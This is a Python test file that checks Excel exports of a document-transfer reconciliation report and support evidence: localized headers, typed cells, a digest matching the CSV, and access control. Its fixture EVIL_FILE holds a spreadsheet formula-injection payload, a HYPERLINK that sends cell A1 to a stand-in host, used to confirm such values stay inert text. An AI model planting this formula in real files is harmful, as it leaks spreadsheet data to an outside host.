"""Excel (.xlsx) downloads beside the CSVs: the reconciliation report of a claim and
support's evidence of a transfer, after a real offer, claim and copy. Each opens in a
spreadsheet with its header block, headers in the reader's language, one typed row per
document, no cell that runs as a formula, and the same SHA-256 as the CSV; nobody else
gets one."""

from __future__ import annotations

import io
from datetime import date, datetime, timedelta
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from app.extensions import db
from app.transfers.copying import copy_waiting
from tests.helpers import accept_all, fresh, offer, spreadsheet

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CLAIMS = "/settings/migrations/claims"
EVIL_FILE = '=HYPERLINK("http://evil.example/?x="&A1,"Klik hier")'
EVIL_NAME = "=1+1 Bakkerij"


def copied(build, office, other_office, *, name="Bakkerij de Korst"):
    """Noord offers an administration with three decided documents (one with a file name
    that looks like a formula), Zuid claims it, and the copy runs."""
    administration = build.administration(office.connection, name=name)
    documents = [
        build.document(administration, "approved", filename=EVIL_FILE, amount=Decimal("99.95")),
        build.document(administration, "approved", invoice_date=date(2025, 11, 30)),
        build.document(administration, "rejected"),
    ]
    transfer, code = offer(office.superuser, [administration])
    claim = accept_all(other_office.superuser, transfer, code, other_office.connection)
    assert copy_waiting() == 1
    fresh()
    return transfer, claim, documents


def read_xlsx(response):
    """The download opened as a spreadsheet: its header block (first column → second),
    the sheet, the header row's cells and the rows (header → cell)."""
    assert response.status_code == 200, response.status_code
    assert response.mimetype == XLSX
    assert "attachment" in response.headers["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    lines = list(sheet.iter_rows())
    blank = next(i for i, cells in enumerate(lines) if all(c.value is None for c in cells))
    block = {cells[0].value: cells[1].value for cells in lines[:blank]}
    header = lines[blank + 1]
    names = [c.value for c in header]
    rows = [dict(zip(names, cells, strict=False)) for cells in lines[blank + 2 :]]
    return block, sheet, header, rows


def speaks_english(user):
    user.language = "en"
    db.session.commit()


def test_the_reconciliation_report_downloads_as_excel_in_dutch(login, build, office, other_office):
    transfer, claim, documents = copied(build, office, other_office)
    zuid = login(other_office.superuser)  # reads Dutch, the product's language

    page = zuid.get_page(f"{CLAIMS}/{claim.id}").get_data(as_text=True)
    assert f'href="{CLAIMS}/{claim.id}/reconciliation.xlsx"' in page
    response = zuid.get(f"{CLAIMS}/{claim.id}/reconciliation.xlsx")

    assert (
        f'filename="reconciliation-claim-{claim.id}.xlsx"'
        in (response.headers["Content-Disposition"])
    )
    block, sheet, header, rows = read_xlsx(response)
    assert block["Aansluitrapport"] == f"Overname {claim.id}"
    assert block["Aanbiedend kantoor"] == "Kantoor Noord"
    assert block["Ontvangend kantoor"] == "Kantoor Zuid"
    assert block["Documenten"] == 3 and block["Overeenkomend"] == 3
    assert isinstance(block["Gemaakt op"], datetime)
    # The same list as the CSV, so the same digest.
    csv_block, _csv_rows = spreadsheet(
        zuid.get(f"{CLAIMS}/{claim.id}/reconciliation.csv").get_data(as_text=True)
    )
    assert block["SHA-256 van de lijst hieronder"] == csv_block["SHA-256 van de lijst hieronder"]

    assert [c.value for c in header][:7] == [
        "Overdrachtregel",
        "Administratie",
        "Brondocument",
        "Bestandsnaam",
        "Factuurdatum",
        "Bedrag",
        "Status",
    ]
    assert all(c.font.b for c in header)
    assert sheet.freeze_panes == f"A{header[0].row + 1}"  # the headers stay in view
    assert sheet.column_dimensions["D"].width > len("Bestandsnaam")

    by_source = {r["Brondocument"].value: r for r in rows}
    assert set(by_source) == {d.id for d in documents}
    for document in documents:
        row = by_source[document.id]
        assert row["Bestandsnaam"].value == document.filename
        assert row["SHA-256 bron"].value == row["SHA-256 doel"].value == document.blob_key
        assert row["Oordeel"].value == "klopt"
    statuses = sorted(by_source[d.id]["Status"].value for d in documents)
    assert statuses == ["Afgewezen", "Goedgekeurd", "Goedgekeurd"]
    # Numbers are numbers and dates are dates.
    evil = by_source[documents[0].id]
    assert evil["Bedrag"].value == pytest.approx(99.95) and evil["Bedrag"].data_type == "n"
    assert evil["Brondocument"].data_type == "n"
    assert by_source[documents[1].id]["Factuurdatum"].value == datetime(2025, 11, 30)
    assert by_source[documents[1].id]["Factuurdatum"].is_date
    # A file name that looks like a formula is text, shown as it is, never run.
    cell = evil["Bestandsnaam"]
    assert cell.value == EVIL_FILE
    assert cell.data_type == "s"
    assert cell.quotePrefix


def test_the_reconciliation_report_in_excel_speaks_the_readers_language(
    login, build, office, other_office
):
    _transfer, claim, documents = copied(build, office, other_office)
    speaks_english(other_office.superuser)

    block, _sheet, header, rows = read_xlsx(
        login(other_office.superuser).get(f"{CLAIMS}/{claim.id}/reconciliation.xlsx")
    )

    assert block["Reconciliation report"] == f"Claim {claim.id}"
    assert block["Offering office"] == "Kantoor Noord"
    assert block["Documents"] == 3
    names = [c.value for c in header]
    assert {"File name", "Invoice date", "Amount", "Status", "Verdict"} <= set(names)
    assert sorted((r["File name"].value, r["Status"].value) for r in rows) == sorted(
        (d.filename, {"approved": "Approved", "rejected": "Turned down"}[d.status.value])
        for d in documents
    )
    assert {r["Verdict"].value for r in rows} == {"match"}


def test_another_office_gets_no_excel_report_and_no_evidence(login, build, office, other_office):
    transfer, claim, _documents = copied(build, office, other_office)
    oost = build.environment("Kantoor Oost", office_code="OOST")
    stranger = build.user(oost, "superuser", email="super@oost.example")
    db.session.commit()

    for user in (stranger, office.user, other_office.user):
        browser = login(user)
        assert browser.get(f"{CLAIMS}/{claim.id}/reconciliation.xlsx").status_code == 404
        assert browser.get(f"/support/transfers/{transfer.id}/evidence.xlsx").status_code == 404
    # Offices never read support's evidence, not even of their own transfer.
    for user in (office.superuser, other_office.superuser):
        response = login(user).get(f"/support/transfers/{transfer.id}/evidence.xlsx")
        assert response.status_code == 404


@pytest.fixture
def console(login, build):
    support_user = build.user(None, "support", email="support@overdracht.example")
    db.session.commit()
    return login(support_user)  # reads Dutch


def test_support_downloads_the_evidence_as_excel(console, build, office, other_office):
    transfer, claim, documents = copied(build, office, other_office, name=EVIL_NAME)

    page = console.get_page(f"/support/transfers/{transfer.id}").get_data(as_text=True)
    assert f'href="/support/transfers/{transfer.id}/evidence.xlsx"' in page
    assert "Bewijsstukken downloaden (Excel, .xlsx)" in page
    response = console.get(f"/support/transfers/{transfer.id}/evidence.xlsx")

    assert (
        f'filename="evidence-transfer-{transfer.id}.xlsx"'
        in (response.headers["Content-Disposition"])
    )
    block, _sheet, header, rows = read_xlsx(response)
    assert f"Bewijs van overdracht {transfer.id}" in block
    assert block["Aanbiedend kantoor"] == "Kantoor Noord"
    assert block["Ontvangend kantoor"] == "Kantoor Zuid"
    assert block["Regels"] == len(rows)
    csv_block, csv_rows = spreadsheet(
        console.get(f"/support/transfers/{transfer.id}/evidence.csv").get_data(as_text=True)
    )
    assert len(csv_rows) == len(rows)
    digest = "SHA-256 van de lijst hieronder"
    assert block[digest] == csv_block[digest]

    assert [c.value for c in header][:2] == ["Onderdeel", "Tijdstip"]
    sections = [r["Onderdeel"].value for r in rows]
    assert sections[0] == "offer" and "acceptance" in sections
    # Times are times.
    (offered,) = [r for r in rows if r["Onderdeel"].value == "offer"]
    assert offered["Tijdstip"].is_date
    # In UTC, to Excel's millisecond.
    offered_at = transfer.created_at.replace(tzinfo=None)
    assert abs(offered["Tijdstip"].value - offered_at) < timedelta(milliseconds=1)
    assert "UTC" in offered["Tijdstip"].number_format
    # One line per document, with its file name.
    lines = [r for r in rows if r["Onderdeel"].value == "document"]
    assert len(lines) == len(documents)
    for document in documents:
        assert any(f"({document.filename})" in r["Onderwerp"].value for r in lines)
    # The administration's name starts like a formula: the cell stays text.
    (item,) = [r for r in rows if r["Onderdeel"].value == "item"]
    subject = item["Onderwerp"]
    assert subject.value.startswith(EVIL_NAME)
    assert subject.data_type == "s"
